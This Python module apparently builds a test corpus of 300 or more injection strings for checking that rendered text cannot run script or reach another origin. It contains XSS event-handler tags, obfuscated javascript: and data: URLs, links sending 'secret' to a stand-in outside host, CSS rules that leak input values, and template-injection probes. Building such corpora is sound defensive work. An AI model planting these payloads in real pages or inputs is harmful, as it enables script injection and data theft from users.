"""300 texts that would run a script or ask another origin if something rendered them."""

from itertools import product

OUTSIDE = "https://outside.example"
RUN = "window.ran=1"
TAGS = ("img", "svg", "video", "audio", "body", "details", "input", "iframe", "object", "math")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
MARKUP = [f"<{tag} src=x open autofocus {event}={RUN}>" for tag, event in product(TAGS, EVENTS)]
SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"{OUTSIDE}/?q=secret",
    "//outside.example/x",
    "\\\\outside.example\\x",
)
PLACES = (
    "<a href='{}'>go</a>",
    "[go]({})",
    "![pixel]({})",
    "<{}>",
    "[ref]: {}",
    "<img src='{}'>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><button>go</button></form>",
    "<link rel=stylesheet href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<base href='{}'>",
    "{}",
)
LINKS = [place.format(url) for place, url in product(PLACES, SCHEMES)]
STYLES = [
    f"<style>{rule}</style>"
    for rule in (
        f"@import '{OUTSIDE}/a.css'",
        f"body{{background:url({OUTSIDE}/b)}}",
        f"@font-face{{font-family:x;src:url({OUTSIDE}/f)}}*{{font-family:x}}",
        f"input[value^=a]{{background:url({OUTSIDE}/a)}}",
        "body{display:none}",
    )
] + [f"<p style=\"background:url('{OUTSIDE}/{n}')\">x</p>" for n in range(5)]
TEMPLATES = [
    form.format(code)
    for form in ("{{{{{}}}}}", "${{{}}}", "<%= {} %>", "#{{{}}}", "{{% {} %}}", "`{}`", "[[{}]]")
    for code in (RUN, f"constructor.constructor('{RUN}')()", "7*7", "config", "self.__init__")
]
BREAKS = (
    "</script>", "</textarea>", "</pre>", "</title>", "-->", "]]>", "'\">", "\u0000", "\u202e",
    "\u2066", "\u200b", "\ufeff", "\u0008", "\u001b[2J", "\u2028", "\u2029", "%3E", "&gt;",
    "&#x3e;", "\\x3e", "\\u003e", "+ADw-", "\ud7ff", "\U000e0041",
)  # fmt: skip
BROKEN_OUT = [
    f"{text}{script}"
    for text in BREAKS
    for script in (
        f"<script>{RUN}</script>",
        f"<img src=x onerror={RUN}>",
        f"event: answer\n\n{RUN}",
    )
]
PAYLOADS = list(dict.fromkeys(MARKUP + LINKS + STYLES + TEMPLATES + BROKEN_OUT))
assert len(PAYLOADS) >= 300
